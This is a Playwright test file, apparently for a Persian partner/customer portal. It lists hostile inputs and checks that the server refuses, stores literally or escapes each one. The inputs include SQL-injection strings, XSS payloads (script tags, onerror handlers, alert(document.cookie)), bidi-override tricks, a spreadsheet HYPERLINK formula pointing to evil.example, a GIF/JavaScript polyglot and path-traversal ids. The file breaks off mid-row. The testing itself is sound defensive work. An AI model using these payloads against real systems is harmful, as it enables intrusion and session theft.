// The hostile-input table: every row is one request through the real server, the input it sends,
// the answer a user depends on (status, the Persian message from locales/fa) and, where the input
// could be half-written or rendered raw, a check afterwards. hostile.spec.ts runs the rows.
import { expect, type APIRequestContext } from "@playwright/test";
import faAuth from "../../locales/fa/auth.json" with { type: "json" };
import faCommon from "../../locales/fa/common.json" with { type: "json" };
import faImports from "../../locales/fa/imports.json" with { type: "json" };
import { e2eDb, faMessage, get, htmlEscaped, post, type Form, type Upload } from "./api";

export type Actor = "zandiyehRep" | "zandiyehAdmin" | "brandAdmin" | "anonymous";
/** Demo accounts no other spec signs in with (brand admin only for forms it refuses, and reads). */
export const ACTOR_EMAILS: Record<Exclude<Actor, "anonymous">, string> = {
  zandiyehRep: "rep@zandiyeh.example",
  zandiyehAdmin: "admin@zandiyeh.example",
  brandAdmin: "admin@brand.example",
};

/** Made once per worker in hostile.spec.ts's beforeAll. */
export interface Fixtures {
  stamp: string;
  /** A plain customer the Zandiyeh rep registered for this run. */
  customerId: string;
  categoryId: string;
  prefKeyId: string;
  /** A pending registration request of the demo seed (brand admin's queue). */
  pendingRequestId: string;
  zandiyehId: string;
  api: Record<Actor, APIRequestContext>;
}

export type CaseClass = "bidi" | "zero-width" | "10k" | "sql" | "script" | "formula" | "csv" | "upload" | "id" | "range" | "review";

export interface HostileCase {
  class: CaseClass;
  name: string;
  as: Actor;
  /** GET when there is no body; POSTs carry the site's Origin unless `withoutOrigin`. */
  request: (fx: Fixtures) => { path: string; body?: Form | Upload; withoutOrigin?: true };
  status: number | number[];
  /** Persian texts the answer must contain. */
  shows?: string[];
  /** What must hold afterwards: nothing half-written, stored literally, rendered escaped. */
  then?: (fx: Fixtures, html: string) => Promise<void>;
}

const e = faCommon.errors;
const tooLong = (max: number) => faMessage(e.too_long, { max });
const importError = (key: keyof typeof faImports.errors) => faMessage(faImports.errors[key], { max: 50 });
const TEN_K = "ب".repeat(10_000);
const UNKNOWN_ID = "01ZZZZZZZZZZZZZZZZZZZZZZZZ";

// ---------------------------------------------------------------------------------------------
// Valid forms that each row spoils in one field.

let phoneSerial = 0;
/** A mobile number unique to this run and worker, so registrations never meet the duplicate check. */
export function freshMobile(): string {
  phoneSerial += 1;
  const n = (Math.floor(Date.now() / 1000) * 37 + phoneSerial * 7919 + process.pid) % 10_000_000;
  return `0935${String(n).padStart(7, "0")}`;
}

export const customerForm = (o: Form = {}): Form => ({
  kind: "person",
  displayName: "مشتری آزمون",
  phone: freshMobile(),
  email: "",
  province: "fars",
  city: "شیراز",
  preferredLocale: "fa",
  preferredChannel: "phone",
  preferredTimes: "",
  ...o,
});
const needForm = (fx: Fixtures, o: Form = {}): Form => ({ intent: "need", categoryId: fx.categoryId, body: "نیاز آزمون", priority: "medium", productId: "", ...o });
const interactionForm = (o: Form = {}): Form => ({ intent: "interaction", kind: "call", channel: "phone", note: "", occurredOn: "", ...o });
const profileForm = (o: Form = {}): Form => ({ phone: "", address: "", cobrandName: "", cobrandMessage: "", website: "", ...o });
const partnerForm = (o: Form = {}): Form => ({ nameFa: "شریک آزمون", nameEn: "Test partner", type: "reseller", parentId: "", tier: "silver", province: "fars", city: "شیراز", phone: "", address: "", ...o });

// ---------------------------------------------------------------------------------------------
// Checks afterwards.

const db = () => e2eDb();
const customersWithPhone = async (form: Form | Upload | undefined) =>
  (await db().selectFrom("customers").select("id").where("phone", "=", `+98${(form as Form).phone.slice(1)}`).execute()).length;
const nothingRegistered = (sent: (fx: Fixtures) => { body?: Form | Upload }) => async (fx: Fixtures) =>
  expect(await customersWithPhone(sent(fx).body)).toBe(0);
const customerRow = (id: string) => db().selectFrom("customers").selectAll().where("id", "=", id).executeTakeFirstOrThrow();
const partnerRow = (id: string) => db().selectFrom("partners").selectAll().where("id", "=", id).executeTakeFirstOrThrow();
const needCount = async (customerId: string) => (await db().selectFrom("customer_needs").select("id").where("customer_id", "=", customerId).execute()).length;

/** The distinct customer profiles a list page links to. */
export const customerLinks = (html: string) => [...new Set(html.match(/\/customers\/[0-9A-Z]{26}/g) ?? [])];

/** The rendered page holds `payload` only in its escaped form. */
export function expectEscaped(html: string, payload: string) {
  expect(html).toContain(htmlEscaped(payload));
  expect(html).not.toContain(payload);
}

/** The customer list (search) of the Zandiyeh rep for `q`. */
export async function search(fx: Fixtures, q: string): Promise<string> {
  const response = await get(fx.api.zandiyehRep, `/customers?q=${encodeURIComponent(q)}`);
  expect(response.status()).toBe(200);
  return response.text();
}

// ---------------------------------------------------------------------------------------------
// Files.

const utf8 = (s: string) => Buffer.from(s, "utf8");
const csv = (name: string, buffer: Buffer): Upload => ({ field: "file", name, mimeType: "text/csv", buffer });
const logo = (name: string, mimeType: string, buffer: Buffer): Upload => ({ field: "logo", name, mimeType, buffer });
export const PNG_1X1 = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
const GOOD_HEADER = "نام,موبایل,شهر\n";
/** "علی,شیراز" in Windows-1256, as an old Excel saves Persian. */
const WINDOWS_1256 = Buffer.concat([Buffer.from("name,phone,city\n"), Buffer.from([0xe1, 0xed, 0x2c, 0x30, 0x39, 0x31, 0x32, 0x2c, 0xd4, 0xed, 0xd1, 0xc7, 0xd2, 0x0a])]);
const UTF16LE = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${GOOD_HEADER}علی,09120000000,شیراز\n`, "utf16le")]);
const UTF16_NO_BOM = Buffer.from(`${GOOD_HEADER}علی,09120000000,شیراز\n`, "utf16le");
/** A GIF header with JavaScript after it: valid as both a GIF and a script. */
const GIF_JS_POLYGLOT = Buffer.concat([Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//"), Buffer.from([0x3b])]);
const PDF = utf8("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
const HTML = utf8("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const SVG = utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');

/** No import job was created for these bytes (the upload was refused before storing anything). */
const noJobFor = (buffer: Buffer) => async () => {
  const { createHash } = await import("node:crypto");
  const sha = createHash("sha256").update(buffer).digest("hex");
  expect(await db().selectFrom("import_jobs").select("id").where("file_sha256", "=", sha).execute()).toEqual([]);
};
const logoUnchanged = async (fx: Fixtures) => {
  const row = await partnerRow(fx.zandiyehId);
  expect(row.logo_key ?? "").not.toMatch(/\.(html|gif|pdf|svg)$/);
  expect(row.logo_mime ?? "image/png").toMatch(/^image\/(png|jpeg)$/);
};

// ---------------------------------------------------------------------------------------------
// The table.

const registerWith = (o: Form) => {
  const body = customerForm(o);
  return () => ({ path: "/customers/new", body });
};

const tooLongRows: HostileCase[] = [
  ["customer name", "zandiyehRep", registerWith({ displayName: TEN_K }), 200],
  ["customer city", "zandiyehRep", registerWith({ city: TEN_K }), 100],
  ["customer preferred times", "zandiyehRep", registerWith({ preferredTimes: TEN_K }), 200],
].map(([name, as, request, max]) => ({
  class: "10k" as const,
  name: `${name} of 10,000 characters on registration`,
  as: as as Actor,
  request: request as HostileCase["request"],
  status: 400,
  shows: [tooLong(max as number)],
  then: nothingRegistered(request as HostileCase["request"]),
}));

export const CASES: HostileCase[] = [
  // --- bidi controls and zero-width characters -------------------------------------------------
  {
    class: "bidi",
    name: "right-to-left override (U+202E) in a customer name",
    as: "zandiyehRep",
    request: registerWith({ displayName: "علی\u202Eexe.gnp" }),
    status: 400,
    shows: [e.control_chars],
  },
  {
    class: "bidi",
    name: "first-strong isolate (U+2068) in a city",
    as: "zandiyehRep",
    request: registerWith({ city: "شیراز\u2068" }),
    status: 400,
    shows: [e.control_chars],
  },
  {
    class: "bidi",
    name: "left-to-right embedding (U+202A) in a need",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: needForm(fx, { body: "یخچال \u202Aside by side" }) }),
    status: 400,
    shows: [e.control_chars],
    then: async (fx) => expect(await needCount(fx.customerId)).toBe(0),
  },
  {
    class: "bidi",
    name: "right-to-left override in the co-brand name",
    as: "zandiyehAdmin",
    request: () => ({ path: "/profile", body: profileForm({ cobrandName: "\u202Eevil" }) }),
    status: 400,
    shows: [e.control_chars],
    then: async (fx) => expect((await partnerRow(fx.zandiyehId)).cobrand_name ?? "").not.toContain("evil"),
  },
  {
    class: "zero-width",
    name: "zero-width space, joiner, word joiner and soft hyphen in a name: stored in display form, found by search",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: `\u200Bنگین\u200D \u2060صدری\u00AD${fx.stamp}\uFEFF` }) }),
    status: 302,
    then: async (fx) => {
      const row = await db().selectFrom("customers").select("display_name").where("display_name", "like", `%${fx.stamp}`).where("display_name", "like", "نگین%").executeTakeFirstOrThrow();
      expect(row.display_name).toBe(`نگین صدری${fx.stamp}`);
      expect(await search(fx, "نگین صدری")).toContain(`نگین صدری${fx.stamp}`);
    },
  },
  {
    class: "zero-width",
    name: "a search typed with a zero-width space and a bidi mark still finds the customer",
    as: "zandiyehRep",
    request: () => ({ path: `/customers?q=${encodeURIComponent("\u200Fنگین\u200B صدری")}` }),
    status: 200,
    then: async (fx, html) => expect(html).toContain(`نگین صدری${fx.stamp}`),
  },
  {
    class: "zero-width",
    name: "a half-space (ZWNJ) is part of Persian spelling and is kept",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: `مهر\u200Cآسا ${fx.stamp}` }) }),
    status: 302,
    then: async (fx) => {
      const html = await search(fx, "مهر آسا");
      expect(html).toContain(`مهر\u200Cآسا ${fx.stamp}`);
    },
  },

  // --- 10,000-character fields, one per form ---------------------------------------------------
  ...tooLongRows,
  {
    class: "10k",
    name: "customer name of 10,000 characters on edit",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: { intent: "edit", ...customerForm({ displayName: TEN_K }) } }),
    status: 400,
    shows: [tooLong(200)],
    then: async (fx) => expect((await customerRow(fx.customerId)).display_name).not.toBe(TEN_K),
  },
  {
    class: "10k",
    name: "need text of 10,000 characters",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: needForm(fx, { body: TEN_K }) }),
    status: 400,
    shows: [tooLong(1000)],
    then: async (fx) => expect(await needCount(fx.customerId)).toBe(0),
  },
  {
    class: "10k",
    name: "interaction note of 10,000 characters",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: interactionForm({ note: TEN_K }) }),
    status: 400,
    shows: [tooLong(2000)],
    then: async (fx) => expect(await db().selectFrom("interactions").select("id").where("customer_id", "=", fx.customerId).where("note", "=", TEN_K).execute()).toEqual([]),
  },
  {
    class: "10k",
    name: "preference value of 10,000 characters",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: { intent: "preferences", [`pref_${fx.prefKeyId}`]: TEN_K } }),
    status: 400,
    shows: [tooLong(200)],
    then: async (fx) => expect(await db().selectFrom("customer_preferences").select("customer_id").where("customer_id", "=", fx.customerId).execute()).toEqual([]),
  },
  {
    class: "10k",
    name: "request-to-serve reason of 10,000 characters (as the registration page's fetcher sends it)",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/serve-requests.data", body: { customerId: fx.customerId, reason: TEN_K } }),
    status: 400,
    then: async (fx, body) => {
      expect(body).toMatch(/"errors\.too_long",\{"_\d+":\d+\},"max",1000\b/);
      expect(await db().selectFrom("serve_requests").select("id").where("customer_id", "=", fx.customerId).execute()).toEqual([]);
    },
  },
  {
    class: "10k",
    name: "decision reason of 10,000 characters on a registration request",
    as: "brandAdmin",
    request: (fx) => ({ path: `/conflicts/${fx.pendingRequestId}`, body: { decision: "reject", reason: TEN_K } }),
    status: 400,
    shows: [tooLong(1000)],
    then: async (fx) => expect((await db().selectFrom("serve_requests").select("status").where("id", "=", fx.pendingRequestId).executeTakeFirstOrThrow()).status).toBe("pending"),
  },
  {
    class: "10k",
    name: "partner address and co-brand message of 10,000 characters on the own profile",
    as: "zandiyehAdmin",
    request: () => ({ path: "/profile", body: profileForm({ address: TEN_K, cobrandMessage: TEN_K }) }),
    status: 400,
    shows: [tooLong(500)],
    then: async (fx) => expect((await partnerRow(fx.zandiyehId)).address).not.toBe(TEN_K),
  },
  {
    class: "10k",
    name: "partner name of 10,000 characters on create",
    as: "brandAdmin",
    request: () => ({ path: "/partners/new", body: partnerForm({ nameFa: TEN_K }) }),
    status: 400,
    shows: [tooLong(200)],
    then: async () => expect(await db().selectFrom("partners").select("id").where("name_fa", "=", TEN_K).execute()).toEqual([]),
  },
  {
    class: "10k",
    name: "partner city of 10,000 characters on edit",
    as: "brandAdmin",
    request: (fx) => ({ path: `/partners/${fx.zandiyehId}`, body: partnerForm({ nameFa: "فروشگاه زندیه", nameEn: "Zandiyeh Store", parentId: "01DEMQPARTNER0000000000002", city: TEN_K }) }),
    status: 400,
    shows: [tooLong(100)],
    then: async (fx) => expect((await partnerRow(fx.zandiyehId)).city).toBe("شیراز"),
  },
  {
    class: "10k",
    name: "invitee name of 10,000 characters",
    as: "zandiyehAdmin",
    request: (fx) => ({ path: "/users/new", body: { email: `long-${fx.stamp}@zandiyeh.example`, displayName: TEN_K, role: "partner_rep", partnerId: "" } }),
    status: 400,
    shows: [tooLong(120)],
    then: async (fx) => expect(await db().selectFrom("users").select("id").where("email", "=", `long-${fx.stamp}@zandiyeh.example`).execute()).toEqual([]),
  },
  {
    class: "10k",
    name: "segment name of 10,000 characters",
    as: "zandiyehRep",
    request: () => ({ path: "/segments", body: { name: TEN_K, q: "a" } }),
    status: 400,
    shows: [tooLong(120)],
    then: async () => expect(await db().selectFrom("segments").select("id").where("name", "=", TEN_K).execute()).toEqual([]),
  },
  {
    class: "10k",
    name: "need category name of 10,000 characters in brand settings",
    as: "brandAdmin",
    request: () => ({ path: "/settings", body: { intent: "category", id: "", nameFa: TEN_K, nameEn: "x", sort: "1", active: "on" } }),
    status: 400,
    shows: [tooLong(120)],
  },
  {
    class: "10k",
    name: "sign-in email of 10,000 characters",
    as: "anonymous",
    request: () => ({ path: "/login", body: { email: `${"a".repeat(10_000)}@x.example`, password: "whatever-long", redirectTo: "/" } }),
    status: 400,
    shows: [tooLong(254)],
  },
  {
    class: "10k",
    name: "invitation password of 10,000 characters",
    as: "anonymous",
    request: () => ({ path: "/invite/no-such-token", body: { password: TEN_K, confirm: TEN_K } }),
    status: 400,
    shows: [faAuth.invite_invalid],
  },

  // --- SQL metacharacters ----------------------------------------------------------------------
  {
    class: "sql",
    name: "`' or 1=1 --` as a customer name is stored literally and found only by itself",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: `' or 1=1 -- ${fx.stamp}` }) }),
    status: 302,
    then: async (fx) => {
      const html = await search(fx, `' or 1=1 -- ${fx.stamp}`);
      expect(html).toContain(htmlEscaped(`' or 1=1 -- ${fx.stamp}`));
      expect(customerLinks(html)).toHaveLength(1);
    },
  },
  {
    class: "sql",
    name: "`%_\\` as a customer name is stored literally",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: `%_\\ ${fx.stamp}` }) }),
    status: 302,
    then: async (fx) => {
      const row = await db().selectFrom("customers").select("display_name").where("display_name", "=", `%_\\ ${fx.stamp}`).executeTakeFirst();
      expect(row?.display_name).toBe(`%_\\ ${fx.stamp}`);
    },
  },
  ...([
    ["%", 1],
    ["_", 0],
    ["\\", 0],
  ] as const).map(
    ([q, rows]): HostileCase => ({
      class: "sql",
      name: `search for \`${q}\` matches it literally, not as a wildcard (${rows} row)`,
      as: "zandiyehRep",
      request: () => ({ path: `/customers?q=${encodeURIComponent(q)}` }),
      status: 200,
      // As a wildcard it would list a whole page of customers; literally only "%_\ …" starts with "%".
      then: async (fx, html) => {
        expect(customerLinks(html)).toHaveLength(rows);
        if (rows) expect(html).toContain(htmlEscaped(`%_\\ ${fx.stamp}`));
      },
    }),
  ),
  {
    class: "sql",
    name: "`%` in the partner directory search",
    as: "brandAdmin",
    request: () => ({ path: `/partners?q=${encodeURIComponent("%' or '1'='1")}` }),
    status: 200,
    shows: [faCommon.no_results],
    then: async (_fx, html) => expect(html).not.toContain("فروشگاه زندیه"),
  },
  {
    class: "sql",
    name: "quote and backslash in the user list search",
    as: "zandiyehAdmin",
    request: () => ({ path: `/users?q=${encodeURIComponent("' or ''='\\")}` }),
    status: 200,
    shows: [faCommon.no_results],
  },

  // --- script in every free-text field ---------------------------------------------------------
  {
    class: "script",
    name: "script and event-handler markup in customer name, city and preferred times",
    as: "zandiyehRep",
    request: (fx) => ({
      path: "/customers/new",
      body: customerForm({ displayName: `<script>alert("n${fx.stamp}")</script>`, city: '<img src=x onerror="alert(1)">', preferredTimes: "<svg onload=alert(2)>" }),
    }),
    status: 302,
    then: async (fx) => {
      const row = await db().selectFrom("customers").select("id").where("display_name", "=", `<script>alert("n${fx.stamp}")</script>`).executeTakeFirstOrThrow();
      const html = await (await get(fx.api.zandiyehRep, `/customers/${row.id}`)).text();
      expectEscaped(html, `<script>alert("n${fx.stamp}")</script>`);
      expectEscaped(html, '<img src=x onerror="alert(1)">');
      expectEscaped(html, "<svg onload=alert(2)>");
    },
  },
  {
    class: "script",
    name: "script in a need and an interaction note",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: interactionForm({ note: `<script>document.title="x${fx.stamp}"</script>` }) }),
    status: 200,
    then: async (fx) => {
      const need = await post(fx.api.zandiyehRep, `/customers/${fx.customerId}`, needForm(fx, { body: "<img src=x onerror=alert(3)>" }));
      expect(need.status()).toBe(200);
      const html = await (await get(fx.api.zandiyehRep, `/customers/${fx.customerId}`)).text();
      expectEscaped(html, `<script>document.title="x${fx.stamp}"</script>`);
      expectEscaped(html, "<img src=x onerror=alert(3)>");
    },
  },
  {
    class: "script",
    name: "script in the partner's address, co-brand name and message",
    as: "zandiyehAdmin",
    request: () => ({ path: "/profile", body: profileForm({ address: "<script>alert(4)</script>", cobrandName: "<b onmouseover=alert(5)>زندیه</b>", cobrandMessage: "<iframe src=javascript:alert(6)>" }) }),
    status: 200,
    then: async (fx) => {
      const html = await (await get(fx.api.zandiyehAdmin, "/profile")).text();
      expectEscaped(html, "<script>alert(4)</script>");
      expectEscaped(html, "<b onmouseover=alert(5)>زندیه</b>");
      expectEscaped(html, "<iframe src=javascript:alert(6)>");
    },
  },
  {
    class: "script",
    name: "script in a saved segment's name",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/segments", body: { name: `<script>alert("s${fx.stamp}")</script>`, province: "fars" } }),
    status: 302,
    then: async (fx) => expectEscaped(await (await get(fx.api.zandiyehRep, "/segments")).text(), `<script>alert("s${fx.stamp}")</script>`),
  },
  {
    class: "script",
    name: "script in an invitee's name",
    as: "zandiyehAdmin",
    request: (fx) => ({ path: "/users/new", body: { email: `xss-${fx.stamp}@zandiyeh.example`, displayName: `<img src=x onerror=alert("u${fx.stamp}")>`, role: "partner_rep", partnerId: "" } }),
    status: 200,
    then: async (fx) => expectEscaped(await (await get(fx.api.zandiyehAdmin, "/users")).text(), `<img src=x onerror=alert("u${fx.stamp}")>`),
  },
  {
    class: "script",
    name: "script in the search box is echoed escaped",
    as: "zandiyehRep",
    request: () => ({ path: `/customers?q=${encodeURIComponent('"><script>alert(7)</script>')}` }),
    status: 200,
    then: async (_fx, html) => expect(html).not.toContain("<script>alert(7)</script>"),
  },

  // --- formula cells in the customer export -----------------------------------------------------
  // Each name is typed with its stamp so the row is found in the partner admin's full export; the
  // cell must start with an apostrophe (text to a spreadsheet), and the raw formula never start a row.
  ...(
    [
      ["=HYPERLINK(…)", (st: string) => `=HYPERLINK("http://evil.example/?${st}","باز کنید")`, (st: string) => `"'=HYPERLINK(""http://evil.example/?${st}"",""باز کنید"")"`],
      ["+", (st: string) => `+${st}+1`, (st: string) => `'+${st}+1`],
      ["-", (st: string) => `-${st}-1`, (st: string) => `'-${st}-1`],
      ["@", (st: string) => `@SUM(${st})`, (st: string) => `'@SUM(${st})`],
      ["tab (trimmed on input, so =)", (st: string) => `\t=${st}*2`, (st: string) => `'=${st}*2`],
      ["carriage return (trimmed on input, so =)", (st: string) => `\r=${st}*3`, (st: string) => `'=${st}*3`],
    ] as const
  ).map(
    ([prefix, typed, cell]): HostileCase => ({
      class: "formula",
      name: `a customer name starting with ${prefix} comes out of the CSV export neutralised`,
      as: "zandiyehRep",
      request: (fx) => ({ path: "/customers/new", body: customerForm({ displayName: typed(fx.stamp) }) }),
      status: 302,
      then: async (fx) => {
        const response = await get(fx.api.zandiyehAdmin, "/customers/export.csv");
        expect(response.status()).toBe(200);
        const rows = (await response.text()).split("\r\n");
        expect(rows.filter((r) => r.startsWith(`${cell(fx.stamp)},`))).toHaveLength(1);
        expect(rows.filter((r) => /^["]?[=+\-@\t\r]/.test(r))).toEqual([]);
      },
    }),
  ),

  // --- malformed and wrongly encoded CSV files on the import page -------------------------------
  ...(
    [
      ["no header row (the first line is empty cells)", csv("customers.csv", utf8(",,\nعلی,09120000000,شیراز\n")), "no_header"],
      ["an unbalanced quote in the header", csv("customers.csv", utf8('"نام,موبایل,شهر\nعلی,09120000000,شیراز\n')), "malformed"],
      ["Windows-1256 (not UTF-8)", csv("customers.csv", WINDOWS_1256), "encoding"],
      ["UTF-16 with a byte-order mark", csv("customers.csv", UTF16LE), "encoding"],
      ["UTF-16 without a byte-order mark", csv("customers.csv", UTF16_NO_BOM), "encoding"],
      ["a binary file (a PNG renamed .csv)", csv("customers.csv", PNG_1X1), "encoding"],
      ["an empty file", csv("customers.csv", Buffer.alloc(0)), "file_required"],
      ["only blank lines", csv("customers.csv", utf8("\n\n  \n")), "empty"],
    ] as const
  ).map(
    ([name, file, key]): HostileCase => ({
      class: "csv",
      name,
      as: "zandiyehRep",
      request: () => ({ path: "/customers/import", body: file }),
      status: 400,
      shows: [importError(key)],
      then: noJobFor(file.buffer),
    }),
  ),
  {
    class: "csv",
    name: "an unbalanced quote in a data row: the check fails the job with the line, and no customer is written",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/import", body: csv("broken.csv", utf8(`${GOOD_HEADER}مینا ${fx.stamp},09350000001,شیراز\n"سارا ${fx.stamp},09350000002,شیراز\n`)) }),
    status: 302,
    then: async (fx) => {
      const job = await db().selectFrom("import_jobs").select("id").where("file_name", "=", "broken.csv").where("partner_id", "=", fx.zandiyehId).orderBy("created_at", "desc").executeTakeFirstOrThrow();
      const map = await post(fx.api.zandiyehRep, `/customers/import/${job.id}`, { intent: "map", "map.displayName": "0", "map.phone": "1", "map.city": "2" });
      expect(map.status()).toBe(302);
      await expect
        .poll(async () => (await db().selectFrom("import_jobs").select("status").where("id", "=", job.id).executeTakeFirstOrThrow()).status, { timeout: 15_000 })
        .toBe("failed");
      expect(await (await get(fx.api.zandiyehRep, `/customers/import/${job.id}`)).text()).toContain(faMessage(faImports.errors.malformed_at, { row: 3 }));
      expect(await db().selectFrom("customers").select("id").where("display_name", "in", [`مینا ${fx.stamp}`, `سارا ${fx.stamp}`]).execute()).toEqual([]);
    },
  },

  {
    class: "csv",
    name: "tab as the delimiter (Excel's tab-delimited text) is read as three columns",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/import", body: csv(`tab-${fx.stamp}.csv`, utf8(`نام\tموبایل\tشهر\nعلی\t09120000000\tشیراز\n`)) }),
    status: 302,
    then: async (fx) => {
      const job = await db().selectFrom("import_jobs").select("headers").where("file_name", "=", `tab-${fx.stamp}.csv`).executeTakeFirstOrThrow();
      expect(JSON.parse(job.headers)).toEqual(["نام", "موبایل", "شهر"]);
    },
  },
  {
    class: "csv",
    name: "an unknown delimiter (|) gives one column; mapping a second column is refused",
    as: "zandiyehRep",
    request: (fx) => ({ path: "/customers/import", body: csv(`pipe-${fx.stamp}.csv`, utf8("نام|موبایل|شهر\nعلی|09120000000|شیراز\n")) }),
    status: 302,
    then: async (fx) => {
      const job = await db().selectFrom("import_jobs").select("id").where("file_name", "=", `pipe-${fx.stamp}.csv`).executeTakeFirstOrThrow();
      const map = await post(fx.api.zandiyehRep, `/customers/import/${job.id}`, { intent: "map", "map.displayName": "0", "map.phone": "1", "map.city": "2" });
      expect(map.status()).toBe(400);
      expect(await map.text()).toContain(faImports.errors.mapping_column);
      expect((await db().selectFrom("import_jobs").select("status").where("id", "=", job.id).executeTakeFirstOrThrow()).status).toBe("uploaded");
    },
  },

  // --- renamed and polyglot uploads on the partner logo -----------------------------------------
  ...(
    [
      ["an HTML page renamed .png", logo("logo.png", "image/png", HTML)],
      ["a GIF/JavaScript polyglot", logo("logo.gif", "image/gif", GIF_JS_POLYGLOT)],
      ["a PDF named .jpg", logo("logo.jpg", "image/jpeg", PDF)],
      ["an SVG with script named .png", logo("logo.png", "image/png", SVG)],
    ] as const
  ).map(
    ([name, file]): HostileCase => ({
      class: "upload",
      name: `${name} as the partner logo`,
      as: "zandiyehAdmin",
      request: () => ({ path: "/profile", body: file }),
      status: 400,
      shows: [e.image_type],
      then: logoUnchanged,
    }),
  ),

  // --- unknown and malformed ids on every :id route ----------------------------------------------
  ...(
    [
      ["customer", "zandiyehRep", (id: string) => `/customers/${id}`],
      ["partner", "brandAdmin", (id: string) => `/partners/${id}`],
      ["user", "zandiyehAdmin", (id: string) => `/users/${id}`],
      ["registration request", "brandAdmin", (id: string) => `/conflicts/${id}`],
      ["import job", "zandiyehRep", (id: string) => `/customers/import/${id}`],
      ["partner logo", "zandiyehRep", (id: string) => `/partners/${id}/logo`],
      ["segment export", "zandiyehAdmin", (id: string) => `/customers/export.csv?segment=${id}`],
    ] as const
  ).flatMap(([what, as, path]): HostileCase[] => [
    { class: "id", name: `unknown ${what} id`, as, request: () => ({ path: path(UNKNOWN_ID) }), status: 404 },
    {
      class: "id",
      name: `malformed ${what} id (SQL, path tricks, 2,000 characters)`,
      as,
      request: () => ({ path: path(encodeURIComponent("1' or '1'='1") + "%2F..%2F" + "9".repeat(2000)) }),
      status: 404,
    },
  ]),
  {
    class: "id",
    name: "a need on an unknown customer",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${UNKNOWN_ID}`, body: needForm(fx) }),
    status: 404,
    then: async () => expect(await needCount(UNKNOWN_ID)).toBe(0),
  },
  {
    class: "id",
    name: "deleting an unknown segment",
    as: "zandiyehRep",
    request: () => ({ path: "/segments", body: { intent: "delete", id: "' or 1=1 --" } }),
    status: 404,
  },
  {
    class: "id",
    name: "an unknown invitation link",
    as: "anonymous",
    request: () => ({ path: "/invite/%27%20or%201%3D1%20--" }),
    status: 404,
  },

  // --- out-of-range numbers and dates ------------------------------------------------------------
  ...(["-1", "99999999999", "1e400", "NaN", "۲"] as const).map(
    (page): HostileCase => ({ class: "range", name: `customer list page=${page}`, as: "zandiyehRep", request: () => ({ path: `/customers?page=${encodeURIComponent(page)}` }), status: 200 }),
  ),
  { class: "range", name: "notifications page=-1", as: "zandiyehRep", request: () => ({ path: "/notifications?page=-1" }), status: 200 },
  {
    class: "range",
    name: "an impossible Jalali date (1404/12/30: 1404 is not a leap year) in the list filter",
    as: "zandiyehRep",
    request: () => ({ path: `/customers?contactFrom=${encodeURIComponent("1404/12/30")}` }),
    status: 200,
    shows: [e.date_impossible],
  },
  {
    class: "range",
    name: "1403/12/30 is a real day (1403 is a leap year) and is accepted",
    as: "zandiyehRep",
    request: () => ({ path: `/customers?contactFrom=${encodeURIComponent("1403/12/30")}` }),
    status: 200,
    then: async (_fx, html) => expect(html).not.toContain(e.date_impossible),
  },
  {
    class: "range",
    name: "year 99999 in the list filter",
    as: "zandiyehRep",
    request: () => ({ path: `/customers?contactTo=${encodeURIComponent("99999/01/01")}` }),
    status: 200,
    shows: [e.date_format],
  },
  {
    class: "range",
    name: "an impossible Jalali date on an interaction",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: interactionForm({ occurredOn: "1404/12/30", note: `impossible ${fx.stamp}` }) }),
    status: 400,
    shows: [e.date_impossible],
  },
  {
    class: "range",
    name: "a future date on an interaction",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: interactionForm({ occurredOn: "1499/01/01", note: `future ${fx.stamp}` }) }),
    status: 400,
    shows: [e.date_future],
    then: async (fx) => expect(await db().selectFrom("interactions").select("id").where("note", "=", `future ${fx.stamp}`).execute()).toEqual([]),
  },
  {
    class: "range",
    name: "year 99999 on an interaction",
    as: "zandiyehRep",
    request: (fx) => ({ path: `/customers/${fx.customerId}`, body: interactionForm({ occurredOn: "99999/01/01" }) }),
    status: 400,
    shows: [e.date_format],
  },
  {
    class: "range",
    name: "protection days of 99999999999 in brand settings",
    as: "brandAdmin",
    request: () => ({ path: "/settings", body: { intent: "brand", protectionDays: "99999999999", moneyUnit: "toman" } }),
    status: 400,
    shows: [e.range],
  },

  // --- the security review's two 500s and the missing CSRF refusal ----------------------------------
  {
    class: "review",
    name: "a logo whose file name contains `=` is read like any other (no 500)",
    as: "zandiyehAdmin",
    request: () => ({ path: "/profile", body: logo("a=b.png", "image/png", PNG_1X1) }),
    status: 200,
  },
  {
    class: "review",
    name: "sign-in with redirectTo=/customers?q=علی lands on that search (no 500)",
    as: "anonymous",
    request: () => ({ path: "/login", body: { email: ACTOR_EMAILS.zandiyehRep, password: "portal-demo-1404", redirectTo: "/customers?q=علی" } }),
    status: 302,
  },
  {
    class: "review",
    name: "a POST with the session cookie but no Origin, Referer or Sec-Fetch-Site is refused",
    as: "zandiyehRep",
